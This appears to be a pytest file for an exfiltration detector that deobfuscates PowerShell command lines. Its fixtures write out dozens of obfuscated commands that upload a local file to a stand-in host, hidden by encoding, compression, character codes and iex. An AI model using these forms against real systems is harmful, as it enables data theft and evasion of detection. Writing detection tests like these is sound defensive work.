"""Scripts of PowerShell, by about_Parsing, about_Quoting_Rules, about_Operators and about_PowerShell_exe."""

import base64
import gzip
import zlib

import pytest

from exfilwatch.commands.command import Undoing
from exfilwatch.commands.shells import powershell

UPLOAD = ["curl.exe", "-T", r"C:\a.zip", "http://h/"]
SCRIPT = r"curl.exe -T C:\a.zip http://h/"
BITS = " ".join(f"{ord(each):b}" for each in SCRIPT)


def encoded(script: str, encoding: str = "utf-16-le") -> str:
    return base64.b64encode(script.encode(encoding)).decode()


def deflated(script: str) -> str:
    packing = zlib.compressobj(wbits=-15)
    return base64.b64encode(packing.compress(script.encode()) + packing.flush()).decode()


def words(script: str) -> list[list[str]]:
    return [each.words for each in powershell.commands(script, Undoing())]


@pytest.mark.parametrize(
    ("line", "script"),
    [
        ("powershell whoami", "whoami"),
        ("powershell.exe -NoP -w hidden -ep bypass -c whoami /all", "whoami /all"),
        ("pwsh -nologo -noni -Command whoami", "whoami"),
        ("powershell /Command whoami", "whoami"),
        ("powershell \u2013c whoami", "whoami"),
        ("powershell -ExecutionPolicy:Bypass -co whoami", "whoami"),
        ('powershell "whoami"', "whoami"),
        (r'"powershell.exe" & {$f = \"C:\a\"; dir $f}', '& {$f = "C:\\a"; dir $f}'),
        ('"powershell.exe"  & {$f = \\"a\\"\ndir $f}', '& {$f = "a"\ndir $f}'),
        ('powershell -c "echo ""a b"""', 'echo "a b"'),
        (r'"powershell.exe" & {dir \"C:\\" -r; cd \"D:\"}', r'& {dir "C:\" -r; cd "D:"}'),
        (r'"powershell.exe" & {dir \"C:\\" -r}', r'& {dir "C:\" -r}'),
        (r'powershell -c "dir \"C:\\" -r"', r'dir "C:\" -r'),
        (r'powershell -c "dir \"C:\\\" -r"', r'dir "C:\" -r'),
        (r"powershell -File C:\x.ps1 -a b", r"C:\x.ps1 -a b"),
        (r'powershell -f "C:\a b.ps1" x', r"& 'C:\a b.ps1' x"),
        ("powershell -", ""),
        ("powershell -c -", ""),
        ("powershell", ""),
        ("powershell -v 2 -nop -sta -o text -if xml -wd C:\\ whoami", "whoami"),
    ],
)
def test_the_script_of_a_command_line(line: str, script: str) -> None:
    assert powershell.script_of(line, Undoing()) == script


@pytest.mark.parametrize(
    "parameter", ["-e", "-E", "-en", "-enc", "-eNcO", "-encodedcommand", "-ec", "/e", "--enc", "\u2013enc", "\u2014e"]
)
def test_an_encoded_command_by_any_of_its_names(parameter: str) -> None:
    undoing = Undoing()
    assert powershell.script_of(f"powershell -nop {parameter} {encoded(SCRIPT)}", undoing) == SCRIPT
    assert list(undoing.bounds.steps) == ["encoded command"]
    assert powershell.script_of(f'powershell {parameter} "{encoded(SCRIPT, "utf-8")}"', Undoing()) == SCRIPT


@pytest.mark.parametrize(
    ("script", "step"),
    [
        (SCRIPT, None),
        ("& " + SCRIPT, None),
        (r"""& 'curl.exe' -T 'C:\a.zip' "http://h/" """, None),
        (r"c`url.e`xe -T C:\a.zip http://h/", "backtick"),
        (r"cu'rl'.exe -T C:\a.zip http://h/", "quotes inside a word"),
        (r"$f = 'C:\a.zip'; curl.exe -T $f http://h/", "variable"),
        (r"$d='C:'; curl.exe -T $d\a.zip http://h/", "variable"),
        (r"""$d='a'; curl.exe -T "C:\${d}.zip" http://h/""", "variable"),
        (r"$x = 'cu' + 'rl.exe'; & $x -T C:\a.zip http://h/", "string building"),
        (r"${a b}='curl.exe'; . ${a b} -T C:\a.zip http://h/", "variable"),
        (r"&('cu'+'rl.exe') -T C:\a.zip ('ht'+'tp://h/')", "string building"),
        (r"&('{1}{0}' -f 'rl.exe','cu') -T C:\a.zip http://h/", "format operator"),
        (r"&([string]::Format('{1}{0}','rl.exe','cu')) -T C:\a.zip http://h/", "string building"),
        (r"&(-join('c','url','.exe')) -T C:\a.zip http://h/", "string building"),
        (r"&('c|url|.exe'.Split('|') -join '') -T C:\a.zip http://h/", "string building"),
        (r"&('exe.lruc'[-1..-8] -join '') -T C:\a.zip http://h/", "string building"),
        (r"&([char]0x63+[char]117+'rl.exe') -T C:\a.zip http://h/", "string building"),
        (r"&([char[]](99,117,114,108,46,101,120,101) -join '') -T C:\a.zip http://h/", "string building"),
        (r"&('xurl.exe'.Replace('x','c').Replace('.ece','.exe')) -T C:\a.zip http://h/", "string building"),
        (r"&('#url.exe' -replace '#','c') -T C:\a.zip http://h/", "replacing"),
        (r"&([string]::Join('',@('cu','rl.exe'))) -T C:\a.zip http://h/", "string building"),
        (r"&([string]::Concat('cu','rl.exe')) -T C:\a.zip http://h/", "string building"),
        (r"&('zzcurl.exezz'.Substring(2,8)) -T C:\a.zip http://h/", "string building"),
        (r"$a='exe.lruc'.ToCharArray();[array]::Reverse($a);&(-join $a) -T C:\a.zip http://h/", "string building"),
        (
            r"$a=''; foreach ($c in 99,117,114,108) {$a+=[char]$c}; & ($a+'.exe') -T C:\a.zip http://h/",
            "string building",
        ),
        (r"&((99,117,114,108 | %{[char]$_}) -join '').Insert(4,'.exe') -T C:\a.zip http://h/", "string building"),
        (
            r"&(('63 75 72 6c 2e 65 78 65' -split ' ' | % {[char][convert]::ToInt32($_,16)}) -join '') -T C:\a.zip http://h/",
            None,
        ),
        (r"&(((32,54,49,47 | % {[char]($_ -bxor 67)}) -join '')+'.exe') -T C:\a.zip http://h/", None),
        (r"$p=@{T='C:\a.zip'}; curl.exe @p http://h/", "splatting"),
        (r"sal zz curl.exe; zz -T C:\a.zip http://h/", "alias"),
        ("iex '" + SCRIPT + "'", "built script"),
        ("'" + SCRIPT + "' | iex", "built script"),
        ("&('ie'+'x') '" + SCRIPT + "'", "built script"),
        (".($pshome[4]+$pshome[30]+'x') '" + SCRIPT + "'", "built script"),
        ("&($env:ComSpec[4,24,25]-join'') '" + SCRIPT + "'", "built script"),
        ("&((gv '*mdr*').Name[3,11,2]-join'') '" + SCRIPT + "'", "built script"),
        ("&($ShellId[1]+$ShellId[13]+'x') '" + SCRIPT + "'", "built script"),
        ("& (gcm I*e-E*) '" + SCRIPT + "'", "built script"),
        ("& ([scriptblock]::Create('" + SCRIPT + "'))", None),
        ("[scriptblock]::Create('" + SCRIPT + "').Invoke()", "built script"),
        ("$ExecutionContext.InvokeCommand.InvokeScript('" + SCRIPT + "')", "built script"),
        ("iex @'\n" + SCRIPT + "\n'@", "built script"),
        (f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{encoded(SCRIPT, 'utf-8')}')))", "base64"),
        (
            f"$b='{encoded(SCRIPT)}';[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($b))|iex",
            "base64",
        ),
        (
            (
                "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
                f"[Convert]::FromBase64String('{deflated(SCRIPT)}'),[IO.Compression.CompressionMode]::Decompress)),"
                "[Text.Encoding]::ASCII)).ReadToEnd()"
            ),
            "deflate",
        ),
        (
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('"
            + base64.b64encode(gzip.compress(SCRIPT.encode())).decode()
            + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
            "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();",
            "gzip",
        ),
        ("iex \"`$u='http://h/';curl.exe -T C:\\a.zip `$u\"", "built script"),
    ],
)
def test_what_hides_a_command_is_undone(script: str, step: str | None) -> None:
    undoing = Undoing()
    found = [each.words for each in powershell.commands(script, undoing)]
    assert UPLOAD in found
    assert step is None or step in undoing.bounds.steps


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ("a.exe; b.exe x", [["a.exe"], ["b.exe", "x"]]),
        ("a.exe\nb.exe x # y", [["a.exe"], ["b.exe", "x"]]),
        ("a.exe && b.exe x || c.exe", [["a.exe"], ["b.exe", "x"], ["c.exe"]]),
        ("if (a.exe) {b.exe x} else {c.exe}", [["a.exe"], ["b.exe", "x"], ["c.exe"]]),
        ("try {a.exe} catch [Net.WebException] {b.exe x} finally {c.exe}", [["a.exe"], ["b.exe", "x"], ["c.exe"]]),
        ("function f($x) {a.exe $x}; f 1", [["a.exe", "$x"], ["f", "1"]]),
        ("while ($true) {a.exe; sleep 5}", [["a.exe"], ["sleep", "5"]]),
        ("$r = a.exe -b; $r", [["a.exe", "-b"]]),
        (
            "iwr -Uri http://h/ -Method:Post -InFile a",
            [["iwr", "-Uri", "http://h/", "-Method", "Post", "-InFile", "a"]],
        ),
        ("ftp -s:x.txt", [["ftp", "-s:x.txt"]]),
        ("cp a,b 'c d'", [["cp", "a,b", "c d"]]),
        ("curl.exe -F file=@C:\\x http://h/", [["curl.exe", "-F", "file=@C:\\x", "http://h/"]]),
        ("cmd --% /c dir %TEMP% | more", [["cmd", "/c", "dir", "%TEMP%", "|", "more"]]),
        ("7z a x.7z $env:TEMP\\y", [["7z", "a", "x.7z", "$env:TEMP\\y"]]),
        ("a.exe $env:windir\\x $(hostname)", [["hostname"], ["a.exe", "C:\\WINDOWS\\x", "$(hostname)"]]),
    ],
)
def test_a_script_is_split_into_commands(script: str, found: list[list[str]]) -> None:
    assert words(script) == found


@pytest.mark.parametrize(
    ("script", "raw"),
    [
        (
            r"(New-Object Net.WebClient).UploadFile('http://h/','C:\f')",
            r"(New-Object Net.WebClient).UploadFile('http://h/', 'C:\f')",
        ),
        (
            """$w=New-Object Net.WebClient;$w."Upload`File"('http://h/',$f)""",
            "(New-Object Net.WebClient).UploadFile('http://h/', $f)",
        ),
        (
            "(New-Object Net.WebClient).('Up'+'loadFile').Invoke('http://h/','f')",
            "(New-Object Net.WebClient).UploadFile('http://h/', 'f')",
        ),
        ("[Net.WebRequest]::Create('ht'+'tp://h/')", "[Net.WebRequest]::Create('http://h/')"),
        (
            "$r=[Net.WebRequest]::Create('http://h/'); $r.Method = 'POST'",
            "[Net.WebRequest]::Create('http://h/').Method = 'POST'",
        ),
        ("[Type]('Net.'+'WebClient')::new().UploadString('http://h/', $x)", None),
    ],
)
def test_code_is_folded(script: str, raw: str | None) -> None:
    found = powershell.commands(script, Undoing())
    assert found[-1].words == []
    assert raw is None or found[-1].raw == raw


def test_pipes_are_followed() -> None:
    found = powershell.commands("'put x','bye' | sftp a@b; gc f | % { curl.exe -d $_ http://h/ } > out.txt", Undoing())
    assert found[0].text == "put x\nbye"
    assert [each.words for each in found[2].piped] == [["gc", "f"]]


@pytest.mark.parametrize(
    ("script", "step"),
    [
        (f"&(''.Insert.ToString()[3,7,27]-join'') '{SCRIPT}'", "built script"),
        (f"$env:x='{SCRIPT}'; iex (dir env:x).value", "built script"),
        (f"$env:x='{SCRIPT}'; iex ([Environment]::GetEnvironmentVariable('x','Process'))", "built script"),
        (f"[PowerShell]::Create().AddScript('{SCRIPT}').Invoke()", "built script"),
        (f"icm ([scriptblock]::Create('{SCRIPT}'))", "built script"),
        (f"\"$(sv 'OFS' '')\"+[string]([char[]]({','.join(str(ord(each)) for each in SCRIPT)}))|iex", "built script"),
        (f"iex(('{'~'.join(str(ord(each)) for each in SCRIPT)}'.Split('~')|%{{([char][int]$_)}})-join'')", None),
        (f"iex(('{'~'.join(str(ord(each)) for each in SCRIPT)}'-split'~'|%{{([int]$_-as[char])}})-join'')", None),
        (f"(({','.join(str(ord(each) ^ 75) for each in SCRIPT)})|%{{[char]($_-bxor'0x4b')}})-join''|iex", None),
        (
            (
                f"$h='{SCRIPT.encode().hex()}';$s='';for($i=0;$i -lt $h.Length;$i+=2)"
                "{$s+=[char][convert]::ToInt16($h.Substring($i,2),16)};iex $s"
            ),
            None,
        ),
        (f"$h='{SCRIPT.encode().hex()}' -split '(..)'|?{{$_}}|%{{[char][convert]::ToInt32($_,16)}};iex(-join$h)", None),
        (f"([regex]::Matches('{SCRIPT[::-1]}','.','RightToLeft')|%{{$_.Value}})-join''|iex", None),
        (f"('{SCRIPT.replace('c', 'QQ')}' -creplace 'QQ',[char]99)|iex", "replacing"),
        (f"(({','.join(hex(ord(each)) for each in SCRIPT)})|%{{[convert]::ToChar($_)}})-join''|iex", None),
        (f"('{' '.join(f'{ord(each):x}' for each in SCRIPT)}'-split' '|%{{[char][byte]\"0x$_\"}})-join''|iex", None),
        (
            f"('{BITS}'-split' '|%{{[char][convert]::ToByte($_,2)}})-join''|iex",
            None,
        ),
        ("$a,$b='curl','.exe'; & ($a+$b) -T C:\\a.zip http://h/", "string building"),
        ("$p='-T','C:\\a.zip','http://h/'; curl.exe @p", None),
        (f"$x={{ {SCRIPT} }}; & $x", None),
        (f"[Parameter(Mandatory=$true, ParameterSetName='a')] $x = \"$({SCRIPT})\"", None),
        ("curl.exe `\n -T C:\\a.zip `\n http://h/", None),
    ],
)
def test_what_builds_a_script_is_followed(script: str, step: str | None) -> None:
    undoing = Undoing()
    assert UPLOAD in [each.words for each in powershell.commands(script, undoing)]
    assert step is None or step in undoing.bounds.steps


@pytest.mark.parametrize(
    "script",
    [
        "Start-Process curl.exe -ArgumentList '-T','C:\\a.zip','http://h/'",
        "saps curl.exe '-T C:\\a.zip http://h/' -WindowStyle Hidden -Wait",
        "start -Wait -File curl.exe -Arg '-T C:\\a.zip http://h/'",
        "Start-Process -FilePath:curl.exe -Args '-T','C:\\a.zip','http://h/' -NoNewWindow",
    ],
)
def test_what_start_process_starts_stands_behind_names(script: str) -> None:
    (found,) = powershell.commands(script, Undoing())
    assert found.words[found.words.index("-FilePath") + 1] == "curl.exe"
    assert found.words[found.words.index("-ArgumentList") + 1] == "-T C:\\a.zip http://h/"


@pytest.mark.parametrize(
    ("script", "found"),
    [
        (
            "function f { param([string]$p, $u='http://h/') irm -Uri $u -InFile $p }",
            ["irm", "-Uri", "http://h/", "-InFile", "$p"],
        ),
        (
            "$b = @{a=1} | ConvertTo-Json; irm http://h/ -Body $b",
            ["irm", "http://h/", "-Body", "@{a = 1} | ConvertTo-Json"],
        ),
        ("switch ($x) { 1 { curl.exe -T a http://h/ } default { exit } }", ["curl.exe", "-T", "a", "http://h/"]),
        ("gci C:\\d | ForEach-Object -Parallel { irm -InFile $_ }", ["irm", "-InFile", "$_"]),
    ],
)
def test_what_a_script_does_in_the_end(script: str, found: list[str]) -> None:
    assert words(script)[-1] == found


@pytest.mark.parametrize(
    "script",
    [
        'Set-Content C:\\t\\f.txt "open h`nput x"; ftp -s:C:\\t\\f.txt',
        "'open h','put x' | Out-File -Encoding ascii f.txt; ftp -n -s:f.txt",
        "'open h' > f.txt; 'put x' >> f.txt; ftp.exe -s:f.txt",
        "sc -Path f.txt -Value 'open h'; ac f.txt 'put x'; ftp -s:f.txt",
    ],
)
def test_what_a_script_writes_to_a_file_is_the_text_of_what_reads_it(script: str) -> None:
    assert powershell.commands(script, Undoing())[-1].text == "open h\nput x"
